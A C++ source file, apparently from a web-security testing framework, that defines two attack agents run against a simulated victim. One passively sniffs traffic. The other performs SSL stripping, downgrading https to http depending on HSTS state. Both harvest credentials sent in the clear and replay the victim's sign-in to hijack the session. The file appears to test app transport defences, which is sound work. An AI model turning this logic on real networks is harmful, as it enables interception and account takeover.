// In the victim's network:
//
//   wire-listen  reads along while he comes to the app in his own way (OWASP Transport Layer
//                Security Cheat Sheet: redirect, and serve nothing over http)
//   ssl-strip    speaks http to the victim and https to the app, and takes every way to https out
//                of what passes.
//
// Of the second: Whether it works is decided by what the browser remembers from before: options
// "first" (an undisturbed visit) and "wait" (how long ago that was) tell the cases apart: the first
// visit, the next, and the one after max-age has run out (RFC 6797).
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/request_writer.h"
#include "core/attack/stolen.h"

namespace parapet::attack {
namespace {

// What the victim typed in, and the session that came of it.
void use_what_passed(Target& target) {
    Endpoint const* login = endpoint_option(target, option::kLogin, "login");
    std::size_t in_the_clear = 0;
    Credentials stolen;
    std::optional<http::Request> typed;
    for (Passed const& passed : target.line()->passed()) {
        if (!passed.request) continue;
        ++in_the_clear;
        if (passed.response)
            for (Credential& each : credentials_in(*passed.response))
                stolen.push_back(std::move(each));
        if (login != nullptr && passed.request->method == login->method &&
            passed.request->target.substr(0, passed.request->target.find('?')) == login->path)
            typed = passed.request;
    }
    target.note(std::to_string(in_the_clear) + " requests passed in the clear.");
    use(target, stolen);
    if (!typed) return;
    target.note("One of them was the victim's sign-in.");
    target.forget_cookies();
    http::Request again{.method = typed->method, .target = typed->target, .body = typed->body};
    again.headers.append("Content-Type", typed->headers.get("content-type").value_or(""));
    use(target, credentials_in(target.send(again)));
}

class SslStrip final : public Agent {
    void run(Target& target) override {
        if (target.line() == nullptr || target.victim() == nullptr) return;
        victim_does(target, split(target.option(option::kFirst), ','));
        target.wait(wait_option(target, Duration::zero()));
        target.line()->strip();
        victim_does(target, routines_option(target, option::kDoes));
        target.line()->leave();
        use_what_passed(target);
    }
};

class WireListen final : public Agent {
    void run(Target& target) override {
        if (target.line() == nullptr || target.victim() == nullptr) return;
        target.line()->listen();
        victim_does(target, routines_option(target, option::kDoes));
        target.line()->leave();
        use_what_passed(target);
    }
};

}  // namespace

std::unique_ptr<Agent> make_ssl_strip() { return std::make_unique<SslStrip>(); }
std::unique_ptr<Agent> make_wire_listen() { return std::make_unique<WireListen>(); }

}  // namespace parapet::attack
